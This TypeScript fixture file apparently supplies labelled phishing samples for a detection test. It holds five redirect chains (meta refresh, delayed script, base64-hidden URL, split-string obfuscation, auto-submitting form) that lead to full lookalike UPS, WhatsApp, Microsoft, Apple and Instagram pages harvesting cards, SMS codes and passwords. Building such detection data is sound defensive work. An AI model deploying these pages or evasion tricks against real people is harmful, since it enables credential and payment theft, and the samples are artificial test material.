import type { Entry } from '../entry.js';
import { htmlRoute, redirectRoute } from '../entry.js';

export const entries: Entry[] = [
{
  id: 'a-redir-meta-refresh-ups-fr',
  label: 'phishing',
  kind: 'redirect-chain',
  url: 'https://www.atelier-photo-dubois.fr/galerie/2019/mariage/index.html',
  body: `<html>
<head>
<meta http-equiv="refresh" content="0; URL='https://ups-fr.livraison-frais.com/suivi/?id=1Z8V4W706813298821'">
<title>Galerie</title>
</head>
<body>
<p>Redirection...</p>
</body>
</html>`,
  routes: {
    'ups-fr.livraison-frais.com/suivi/': htmlRoute(`<!DOCTYPE html>
<html lang="fr"><head><meta charset="utf-8"><meta name="viewport" content="width=device-width,initial-scale=1">
<title>UPS : Suivi de colis</title>
<style>
body{margin:0;font-family:Roboto,Arial,sans-serif;background:#f7f7f7;color:#242424}
.hd{background:#351c15;height:62px;display:flex;align-items:center;padding:0 20px}.hd img{height:40px}
.c{max-width:560px;margin:20px auto;background:#fff;padding:24px;border-top:4px solid #ffc400}
label{display:block;font-size:13px;margin:10px 0 4px}
input{width:100%;height:42px;border:1px solid #8a8a8a;padding:0 10px;box-sizing:border-box}
button{margin-top:18px;width:100%;height:46px;border:0;border-radius:23px;background:#ffc400;font-weight:bold;font-size:16px}
</style></head>
<body>
<div class="hd"><img src="/suivi/ups-shield.svg" alt="UPS"></div>
<div class="c">
<h2>Votre colis n'a pas pu être livré</h2>
<p>Numéro de suivi : <b>1Z8V4W706813298821</b></p>
<p>Des frais de réexpédition de <b>1,99 €</b> sont nécessaires pour programmer une nouvelle livraison.</p>
<form method="post" action="/suivi/paiement.php">
<label>Nom complet</label><input name="nom"><label>Adresse</label><input name="adresse"><label>Code postal</label><input name="cp">
<label>Numéro de carte</label><input name="carte"><label>Date d'expiration</label><input name="exp" placeholder="MM/AA"><label>Cryptogramme visuel</label><input name="cvv">
<button>Payer 1,99 €</button>
</form>
</div></body></html>`),
  },
},
{
  id: 'a-redir-js-delay-whatsapp-pt',
  label: 'phishing',
  kind: 'redirect-chain',
  url: 'https://promo-natal-brinde.blogspot-pt.com/2025/12/sorteio.html',
  body: `<!DOCTYPE html>
<html lang="pt-BR"><head><meta charset="utf-8"><meta name="viewport" content="width=device-width,initial-scale=1">
<title>Sorteio de Natal 🎁</title>
<style>body{font-family:Arial;text-align:center;padding:60px 20px;background:#fff3f3}</style>
</head>
<body>
<h2>🎁 Parabéns! Você foi selecionado</h2>
<p>Aguarde, estamos verificando seu número…</p>
<script>
setTimeout(function(){ window.location.href = "https://whatsapp-verificacao.web-ativar.com/ativar/?r=natal"; }, 1800);
</script>
</body></html>`,
  routes: {
    'whatsapp-verificacao.web-ativar.com/ativar/': htmlRoute(`<!DOCTYPE html>
<html lang="pt-BR"><head><meta charset="utf-8"><meta name="viewport" content="width=device-width,initial-scale=1">
<title>WhatsApp Web</title>
<link rel="icon" href="https://static.whatsapp.net/rsrc.php/v4/yz/r/ujTY9i_Jhs1.png">
<style>
body{margin:0;font-family:Helvetica,Arial,sans-serif;background:#eae6df}
.g{background:#00a884;height:200px}
.c{max-width:460px;margin:-140px auto 40px;background:#fff;border-radius:6px;padding:30px;box-shadow:0 1px 3px rgba(0,0,0,.2)}
h1{font-size:22px;font-weight:400;color:#41525d}
input{width:100%;height:46px;border:0;border-bottom:2px solid #00a884;font-size:20px;letter-spacing:4px;text-align:center;margin:10px 0 20px}
button{width:100%;height:44px;border:0;border-radius:22px;background:#008069;color:#fff;font-size:15px}
.s{display:none}
</style></head>
<body>
<div class="g"></div>
<div class="c">
<div id="a">
<img src="/ativar/wa.png" alt="WhatsApp" height="40">
<h1>Confirme seu número para receber o prêmio</h1>
<p>Informe o número do seu WhatsApp com DDD.</p>
<input id="tel" placeholder="+55 (11) 9____-____">
<button onclick="document.getElementById('a').className='s';document.getElementById('b').className='';fetch('/ativar/n.php',{method:'POST',body:document.getElementById('tel').value})">Avançar</button>
</div>
<div id="b" class="s">
<h1>Digite o código de 6 dígitos</h1>
<p>Enviamos um SMS com o código de verificação do WhatsApp para o seu número. Não compartilhe com ninguém.</p>
<input id="cod" maxlength="7" placeholder="___-___">
<button onclick="fetch('/ativar/c.php',{method:'POST',body:document.getElementById('cod').value}).then(function(){location.href='https://web.whatsapp.com/'})">Verificar</button>
</div>
</div>
</body></html>`),
  },
},
{
  id: 'a-redir-atob-replace-o365',
  label: 'phishing',
  kind: 'redirect-chain',
  url: 'https://storage.cloud-files-share.net/pub/index.html#d.ferreira@lisboa-engenharia.pt',
  routes: {
    'storage.cloud-files-share.net/pub/index.html': htmlRoute(`<!DOCTYPE html><html><head><meta charset="utf-8"><title>Loading</title></head>
<body style="font-family:sans-serif;color:#888">
<script>
var e = window.location.hash.substr(1);
var t = "aHR0cHM6Ly9sb2dpbi5taWNyb3NvZnRvbmxpbmUuc3NvLWF1dGgtcG9ydGFsLmNvbS9jb21tb24vb2F1dGgyL3YyLjAvYXV0aG9yaXplP2NsaWVudF9pZD0wMDAwMDAwMiZyZXNwb25zZV90eXBlPWNvZGUmbG9naW5faGludD0=";
setTimeout(function(){ window.location.replace(atob(t) + encodeURIComponent(e)); }, 600);
</script>
</body></html>`),
    'login.microsoftonline.sso-auth-portal.com/common/oauth2/v2.0/authorize': htmlRoute(`<!DOCTYPE html>
<html lang="en"><head><meta charset="utf-8"><meta name="viewport" content="width=device-width,initial-scale=1">
<title>Sign in to your account</title>
<link rel="icon" href="https://aadcdn.msftauth.net/shared/1.0/content/images/favicon_a_eupayfgghqiai7k9sol6lg2.ico">
<style>body{margin:0;font-family:"Segoe UI",sans-serif;background:#f2f2f2 url(https://aadcdn.msftauth.net/shared/1.0/content/images/backgrounds/2_bc3d32a696895f78c19df6c717586a5d.svg) center/cover}.b{width:440px;max-width:94%;margin:12vh auto;background:#fff;padding:44px;box-sizing:border-box;box-shadow:0 2px 6px rgba(0,0,0,.2)}.id{font-size:15px;margin:12px 0}input{width:100%;height:36px;border:0;border-bottom:1px solid #666;font-size:15px;margin-bottom:16px}button{float:right;background:#0067b8;color:#fff;border:0;height:32px;min-width:108px}</style></head>
<body><div class="b"><img src="https://aadcdn.msftauth.net/shared/1.0/content/images/microsoft_logo_ee5c8d9fb6248c938fd0dc19370e90bd.svg" alt="Microsoft" height="24">
<div class="id" id="id"></div><h2 style="font-weight:600;margin:8px 0 16px">Enter password</h2>
<form method="post" action="/common/login"><input type="hidden" name="login" id="lg"><input type="password" name="passwd" placeholder="Password" required><p style="font-size:13px"><a href="#" style="color:#0067b8">Forgot my password</a></p><button>Sign in</button><div style="clear:both"></div></form></div>
<script>var h=new URLSearchParams(location.search).get('login_hint')||'';document.getElementById('id').textContent=h;document.getElementById('lg').value=h;</script></body></html>`),
  },
},
{
  id: 'a-redir-mixed-chain-apple',
  label: 'phishing',
  kind: 'redirect-chain',
  url: 'https://go.shortlnk-now.com/ApL3x',
  routes: {
    'go.shortlnk-now.com/ApL3x': redirectRoute(302, 'https://cdn-static-assets.org/r/hop.html?k=ApL3x'),
    'cdn-static-assets.org/r/hop.html': htmlRoute(`<html><head><meta http-equiv="refresh" content="1;url=https://cdn-static-assets.org/r/go.html"></head><body></body></html>`),
    'cdn-static-assets.org/r/go.html': htmlRoute(`<html><head><script>var d=['ht','tps:','//appleid.','apple.com','-lock','ed-acc','ount.info','/sign','in/'];top.location=d.join('');</script></head><body></body></html>`),
    'appleid.apple.com-locked-account.info/signin/': htmlRoute(`<!doctype html>
<html lang="en"><head><meta charset="utf-8"><meta name="viewport" content="width=device-width,initial-scale=1">
<title>Manage your Apple Account</title>
<style>body{margin:0;background:#fff;font-family:-apple-system,"SF Pro Text","Helvetica Neue",sans-serif;color:#1d1d1f}.n{height:44px;background:#f5f5f7;border-bottom:1px solid #d2d2d7}.m{max-width:480px;margin:70px auto;text-align:center;padding:0 20px}h1{font-size:40px;font-weight:600}input{width:100%;height:56px;border:1px solid #d2d2d7;border-radius:12px;padding:0 16px;font-size:17px;margin-bottom:10px;box-sizing:border-box}button{width:100%;height:50px;background:#0071e3;color:#fff;border:0;border-radius:12px;font-size:17px}</style></head>
<body><div class="n"></div><div class="m"><img src="/signin/apple.svg" alt="Apple" height="44"><h1>Sign in</h1><p>Your Apple Account was locked for security reasons.</p>
<form method="post" action="/signin/auth.php"><input name="accountName" placeholder="Email or Phone Number"><input name="password" type="password" placeholder="Password"><button>Sign In</button></form></div></body></html>`),
  },
},
{
  id: 'a-redir-autosubmit-form-instagram',
  label: 'phishing',
  kind: 'redirect-chain',
  url: 'https://www.lakeside-yoga-studio.com/wp-admin/maint/repair.php?x=ig',
  body: `<html><body onload="document.forms[0].submit()">
<form method="post" action="https://instagram-verified-badge.com/apply/">
<input type="hidden" name="src" value="mail">
<input type="hidden" name="cid" value="a83f">
</form>
</body></html>`,
  routes: {
    'instagram-verified-badge.com/apply/': htmlRoute(`<!DOCTYPE html>
<html lang="en"><head><meta charset="utf-8"><meta name="viewport" content="width=device-width,initial-scale=1">
<title>Verified Badge Application</title>
<style>
body{margin:0;background:#fafafa;font-family:-apple-system,Segoe UI,Roboto,Arial,sans-serif;color:#262626}
.c{max-width:400px;margin:40px auto;background:#fff;border:1px solid #dbdbdb;padding:36px 40px;text-align:center}
.badge{width:64px;height:64px;border-radius:50%;background:#3897f0;color:#fff;font-size:38px;line-height:64px;margin:0 auto 16px}
input{width:100%;height:38px;background:#fafafa;border:1px solid #dbdbdb;border-radius:3px;padding:0 9px;margin-bottom:6px;box-sizing:border-box}
button{width:100%;height:32px;background:#0095f6;color:#fff;border:0;border-radius:8px;font-weight:600;margin-top:8px}
p{font-size:14px;color:#737373}
</style></head>
<body>
<div class="c">
<img src="/apply/ig-wordmark.png" alt="Instagram" height="50">
<div class="badge">&#10003;</div>
<h3>Your account is eligible for the blue badge</h3>
<p>Congratulations! Our team reviewed your account and it meets the requirements for verification. Confirm your account ownership to receive the badge.</p>
<form method="post" action="/apply/confirm.php">
<input name="username" placeholder="Username">
<input name="password" type="password" placeholder="Password">
<button>Confirm</button>
</form>
</div>
</body></html>`),
  },
},
];
